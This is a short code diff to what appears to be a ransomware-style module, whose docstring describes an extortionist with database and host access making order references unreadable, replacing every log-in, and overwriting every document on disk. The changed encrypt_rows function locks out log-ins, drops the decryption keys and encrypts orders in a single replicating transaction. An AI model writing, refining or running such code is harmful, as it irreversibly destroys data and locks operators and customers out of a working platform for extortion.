@@ -1,7 +1,7 @@
 """What an extortionist does once he has the application's database role and its host.
 
-Rows first: references of orders become unreadable and every log-in is replaced, in committed
-transactions that replicate. Then each document on disk is overwritten. The platform goes on
+Rows first: every log-in is replaced and references of orders become unreadable, in one
+transaction, which replicates. Then each document on disk is overwritten. The platform goes on
 running; it just cannot be used any more. Platform-independent: a DSN and a folder.
 """
 
@@ -50,11 +50,11 @@ class FirstHarm:
 
 
 def encrypt_rows(dsn: str) -> tuple[int, int]:
-    """Orders and log-ins that are unreadable now. Each statement is a transaction of its own."""
-    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
-        orders = database.execute(_LOCK_ORDERS).rowcount
+    """Orders and log-ins that are unreadable now: locked out and encrypted in one transaction."""
+    with psycopg.connect(dsn, connect_timeout=5) as database:
         log_ins = database.execute(_LOCK_LOG_INS).rowcount
         database.execute(_DROP_KEYS)
+        orders = database.execute(_LOCK_ORDERS).rowcount
     return orders, log_ins
 
 
